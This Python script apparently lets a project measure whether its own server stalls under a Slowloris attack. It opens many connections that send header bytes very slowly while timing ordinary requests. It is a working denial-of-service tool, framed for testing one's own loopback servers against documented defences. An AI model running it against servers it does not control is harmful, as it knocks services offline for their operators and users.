"""Measure whether slow clients stall a server: open many connections that send their request headers
one byte every few seconds, and meanwhile time ordinary requests.

    python scripts/slowloris.py http://127.0.0.1:8000/healthz --sockets 200 --interval 5 --seconds 60

Only for servers of your own (loopback): it is the attack docs/deploy.md defends against.
"""

import argparse
import http.client
import socket
import statistics
import threading
import time
from urllib.parse import urlsplit


def slow_client(host, port, interval, stop, opened):
    """Send a request line and then one header byte every `interval` seconds, never finishing."""
    try:
        sock = socket.create_connection((host, port), timeout=10)
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: slowloris\r\n".encode())
        opened.append(sock)
        while not stop.wait(interval):
            sock.sendall(b"X")  # one more byte of a header line that never ends
    except OSError:
        pass  # the server closed it: the defence worked for this one


def timed_get(url, timeout):
    parts = urlsplit(url)
    start = time.monotonic()
    try:
        connection = http.client.HTTPConnection(parts.hostname, parts.port or 80, timeout=timeout)
        connection.request("GET", parts.path or "/", headers={"Host": parts.hostname})
        status = connection.getresponse().status
        connection.close()
    except OSError:
        status = None
    return status, time.monotonic() - start


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("url")
    parser.add_argument("--sockets", type=int, default=200)
    parser.add_argument("--interval", type=float, default=5.0, help="seconds between the bytes of a slow client")
    parser.add_argument("--seconds", type=float, default=60.0, help="how long the attack and the timing last")
    parser.add_argument("--timeout", type=float, default=10.0, help="a normal request slower than this failed")
    args = parser.parse_args()
    parts = urlsplit(args.url)

    baseline = [timed_get(args.url, args.timeout) for _ in range(5)]
    stop, opened = threading.Event(), []
    clients = [
        threading.Thread(
            target=slow_client, args=(parts.hostname, parts.port, args.interval, stop, opened), daemon=True
        )
        for _ in range(args.sockets)
    ]
    for client in clients:
        client.start()
    time.sleep(min(args.interval, 3.0))  # let the slow clients connect and take what they can
    timings = []
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        timings.append(timed_get(args.url, args.timeout))
        time.sleep(0.5)
    stop.set()
    for sock in opened:
        sock.close()

    answered = [seconds for status, seconds in timings if status is not None]
    print(f"slow clients: {args.sockets} (connected {len(opened)}), one byte every {args.interval:g} s")
    print(f"before: {statistics.median(s for _st, s in baseline) * 1000:.1f} ms median")
    print(f"during: {len(answered)} of {len(timings)} requests answered within {args.timeout:g} s", end="")
    if answered:
        print(f", median {statistics.median(answered) * 1000:.1f} ms, slowest {max(answered) * 1000:.1f} ms")
    else:
        print()


if __name__ == "__main__":
    main()
